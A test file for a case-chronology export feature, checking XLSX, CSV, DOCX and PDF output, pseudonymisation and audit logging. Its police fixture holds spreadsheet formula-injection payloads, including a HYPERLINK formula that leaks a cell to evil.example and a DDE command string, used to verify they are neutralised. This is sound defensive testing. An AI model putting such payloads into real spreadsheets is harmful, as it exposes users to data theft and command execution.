import ExcelJS from 'exceljs';
import mammoth from 'mammoth';
import { getDocument } from 'pdfjs-dist/legacy/build/pdf.mjs';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { addCorrection, annotateEntry } from '../../electron/engine/annotations/annotations';
import { readAudit } from '../../electron/engine/audit';
import { exportChronology } from '../../electron/engine/export/export-chronology';
import { exportAuditLog } from '../../electron/engine/export/export-audit';
import { addExtract, addPerson, caseWith, CHAIR, entryIds } from './chair-fixtures';

const POLICE = [
  'Date,Time,Incident Type,Details,Officer,Persons Involved,Outcome',
  '14/01/2023,22:40,Concern for welfare,"Neighbour called: Rowan Pellow shouting, appeared intoxicated.",PC 4411,"PELLOW, Rowan",No further action',
  '03/03/2023,01:15,999 call,"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",PC 2207,"Rowan Pellow; Kyle Danner",+SUM(1;2)',
  '11/03/2023,19:05,Assault report,"@cmd|\' /C calc\'!A0",PS 118,R. Pellow,-2+3',
].join('\n');
const GP = 'Contact date;Type;Summary;Clinician;Patient\n06-Mar-23;Appointment;"Attended with Kyle. Weight loss 6kg.";GP;Rowan Pellow\n';

async function demoCase() {
  const c = await caseWith(POLICE);
  await addExtract(c, GP, 'GP', 'gp.csv');
  addPerson(c, { name: 'Rowan Pellow', role: 'subject', aliases: ['PELLOW, Rowan', 'R. Pellow'] });
  addPerson(c, { name: 'Kyle Danner', role: 'associate' });
  const ids = entryIds(c);
  annotateEntry(c.db, CHAIR, ids[0]!, { keyEpisode: true, analysis: 'Rowan declined help; no referral made', themes: ['alcohol'] });
  addCorrection(c.db, CHAIR, { entryId: ids[1]!, field: 'time', note: 'Call logged at 01:51, not 01:15' });
  annotateEntry(c.db, CHAIR, ids[3]!, { excluded: true, excludeReason: 'Duplicate' });
  return c;
}

async function pdfText(bytes: Uint8Array): Promise<string> {
  const doc = await getDocument({ data: bytes.slice(), verbosity: 0 }).promise;
  const pages: string[] = [];
  for (let i = 1; i <= doc.numPages; i++) {
    const content = await (await doc.getPage(i)).getTextContent();
    pages.push(content.items.map((it) => ('str' in it ? it.str : '')).join(' '));
  }
  return pages.join('\n');
}

describe('export formats', () => {
  it('XLSX: one row per entry in the standard columns, header frozen, filters on, formulas inert, analysis apart', async () => {
    const c = await demoCase();
    const f = await exportChronology(c, CHAIR, { format: 'xlsx', includeAnalysis: true });
    expect(f.fileName).toMatch(/^case-chronology-\d{4}-\d{2}-\d{2}\.xlsx$/);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(Buffer.from(f.bytes) as unknown as ArrayBuffer);
    const ws = wb.getWorksheet('Chronology')!;
    const header = (ws.getRow(1).values as string[]).slice(1);
    expect(header).toEqual([
      'Seq', 'Date', 'Time', 'Agency', 'Contact type', 'People involved', 'Practitioner role', 'Event (facts)', 'Action / outcome',
      'Correction notes', 'Key episode', 'Themes', 'Agency analysis', "Reviewer's analysis", 'Date as recorded', 'Source (file, row)',
    ]);
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.autoFilter).toBeTruthy();
    expect(ws.rowCount).toBe(4); // header + 3 entries: the excluded one is left out
    const rows = [2, 3, 4].map((n) => Object.fromEntries(header.map((h, i) => [h, ws.getRow(n).getCell(i + 1)])));
    expect(rows.map((r) => r['Agency']!.value)).toEqual(['Police', 'Police', 'GP']);
    // Real cells, so Excel sorts and filters them: the sequence a number, the day a date, the time a time.
    expect(rows.map((r) => r['Seq']!.value)).toEqual([1, 2, 3]);
    expect(rows[0]!['Date']!.type).toBe(ExcelJS.ValueType.Date);
    expect((rows[0]!['Date']!.value as Date).toISOString().slice(0, 10)).toBe('2023-01-14');
    expect(rows[0]!['Date']!.numFmt).toBe('dd/mm/yyyy');
    // exceljs reads a time-formatted number back as a time of day on Excel's day zero.
    expect((rows[0]!['Time']!.value as Date).toISOString()).toBe('1899-12-30T22:40:00.000Z');
    expect(rows[0]!['Time']!.numFmt).toBe('hh:mm');
    expect(rows[2]!['Date']!.type).toBe(ExcelJS.ValueType.Date);
    expect(rows[0]!['Key episode']!.value).toBe('Yes');
    expect(rows[0]!["Reviewer's analysis"]!.value).toBe('Rowan declined help; no referral made');
    expect(rows[0]!['Event (facts)']!.value).toContain('Neighbour called');
    expect(rows[1]!['Correction notes']!.value).toBe('time: Call logged at 01:51, not 01:15');
    // Every formula payload is a plain string, prefixed so no spreadsheet runs it.
    for (const cell of [rows[1]!['Event (facts)']!, rows[1]!['Action / outcome']!]) {
      expect(cell.type).toBe(ExcelJS.ValueType.String);
      expect(String(cell.value).startsWith("'")).toBe(true);
    }
    expect(rows[1]!['Event (facts)']!.value).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(rows[1]!['Action / outcome']!.value).toBe("'+SUM(1;2)");
    let formulas = 0;
    ws.eachRow((row) => row.eachCell((cell) => void (cell.type === ExcelJS.ValueType.Formula && formulas++)));
    expect(formulas).toBe(0);
    expect(wb.getWorksheet('About')!.getCell('A1').value).toBe('case');
  });

  it('CSV: facts only unless analysis is asked for; formula payloads neutralised; filters by agency and period', async () => {
    const c = await demoCase();
    const f = await exportChronology(c, CHAIR, { format: 'csv' });
    const text = Buffer.from(f.bytes).toString('utf8');
    expect(text.startsWith('\uFEFF')).toBe(true);
    const rows = parse(text.slice(1)) as string[][];
    expect(rows[0]).not.toContain("Reviewer's analysis");
    expect(rows[0]).not.toContain('Themes');
    expect(rows).toHaveLength(4);
    expect(rows.flat().filter((v) => /^[=+\-@\t\r]/.test(v))).toEqual([]);
    expect(rows[2]![rows[0]!.indexOf('Event (facts)')]).toMatch(/^'=HYPERLINK/);
    expect(text).not.toContain('no referral made');

    const gpOnly = parse(Buffer.from((await exportChronology(c, CHAIR, { format: 'csv', agencies: ['GP'] })).bytes).toString('utf8').slice(1)) as string[][];
    expect(gpOnly.slice(1).map((r) => r[3])).toEqual(['GP']);
    const march = parse(Buffer.from((await exportChronology(c, CHAIR, { format: 'csv', from: '2023-03-01', to: '2023-03-31' })).bytes).toString('utf8').slice(1)) as string[][];
    expect(march.slice(1).map((r) => r[1])).toEqual(['03/03/2023', '06/03/2023']);
  });

  it('DOCX: cover page with the keys, then the chronology table', async () => {
    const c = await demoCase();
    const f = await exportChronology(c, CHAIR, { format: 'docx', includeAnalysis: true, pseudonymise: true });
    const { value: text } = await mammoth.extractRawText({ buffer: Buffer.from(f.bytes) });
    expect(text).toContain('integrated chronology');
    expect(text).toContain('Key of pseudonyms');
    expect(text).toContain('Adult A');
    expect(text).toContain('The subject of the review');
    expect(text).toContain('Key of abbreviations');
    expect(text).toContain('No further action');
    expect(text).toContain('Event (facts)');
    expect(text).toContain('Adult A declined help; no referral made');
    expect(text).toContain('Correction: time: Call logged at 01:51');
    for (const name of ['Rowan', 'Pellow', 'Kyle', 'Danner']) expect(text.toLowerCase()).not.toContain(name.toLowerCase());
    // The document is landscape: the page is wider than tall.
    const { default: JSZip } = await import('jszip');
    const xml = await (await JSZip.loadAsync(Buffer.from(f.bytes))).file('word/document.xml')!.async('string');
    const [, w, h] = /<w:pgSz w:w="(\d+)" w:h="(\d+)"/.exec(xml)!;
    expect(Number(w)).toBeGreaterThan(Number(h));
  });

  it('PDF: a landscape table whose text reads back', async () => {
    const c = await demoCase();
    const long = Array.from({ length: 900 }, (_, i) => `word${i}`).join(' ');
    await addExtract(c, `Date,Details\n20/03/2023,"Start. ${long} The end."\n`, 'Housing', 'housing.csv');
    const f = await exportChronology(c, CHAIR, { format: 'pdf' });
    expect(Buffer.from(f.bytes).subarray(0, 5).toString()).toBe('%PDF-');
    const text = await pdfText(f.bytes);
    expect(text).toContain('integrated chronology');
    expect(text).toContain('Neighbour called');
    expect(text).toContain('Weight loss 6kg');
    expect(text).toContain('word899');
    expect(text).toContain('The end.');
    expect(text).toMatch(/\b4\s+\(cont\.\)/);
    expect(text).not.toMatch(/\(cont\.\)\s+\(cont\.\)/);
    // Long text breaks between words, never inside one.
    for (let i = 0; i < 900; i++) expect(text).toMatch(new RegExp(`\\bword${i}\\b`));
    const doc = await getDocument({ data: f.bytes.slice(), verbosity: 0 }).promise;
    const [, , pw, ph] = (await doc.getPage(2)).view;
    expect(pw!).toBeGreaterThan(ph!);
  });

  it("orders a day's entries by the reviewer's same-day order first, then by time", async () => {
    const c = await caseWith('Date,Time,Details\n05/05/2023,09:00,Morning visit\n05/05/2023,13:00,Afternoon call\n05/05/2023,18:00,Evening 999 call\n04/05/2023,23:00,Day before\n');
    const [, morning, afternoon, evening] = entryIds(c);
    annotateEntry(c.db, CHAIR, evening!, { sameDayOrder: 1 });
    annotateEntry(c.db, CHAIR, afternoon!, { sameDayOrder: 2 });
    expect(morning).toBeDefined();
    const rows = parse(Buffer.from((await exportChronology(c, CHAIR, { format: 'csv' })).bytes).toString('utf8').slice(1)) as string[][];
    const event = rows[0]!.indexOf('Event (facts)');
    expect(rows.slice(1).map((r) => [r[0], r[event]])).toEqual([
      ['1', 'Day before'],
      ['2', 'Evening 999 call'],
      ['3', 'Afternoon call'],
      ['4', 'Morning visit'],
    ]);
  });

  it('records every export in the audit log, and exports the log as CSV with its verification', async () => {
    const c = await demoCase();
    await exportChronology(c, CHAIR, { format: 'csv', agencies: ['GP'] });
    const last = readAudit(c.db).at(-1)!;
    expect(last).toMatchObject({ action: 'export', actorName: CHAIR.name, after: { format: 'csv', agencies: ['GP'], rows: 1, pseudonymise: false } });
    const f = exportAuditLog(c);
    const rows = parse(Buffer.from(f.bytes).toString('utf8').slice(1)) as string[][];
    expect(rows[0]).toEqual(['Id', 'When (UTC)', 'Who', 'Role', 'Action', 'What', 'Which', 'Before', 'After', 'Hash']);
    expect(rows.slice(1, -1).map((r) => r[4])).toEqual(['annotate', 'add_correction', 'annotate', 'export']);
    expect(rows.at(-1)![8]).toBe('chain intact (4 changes)');
  });
});
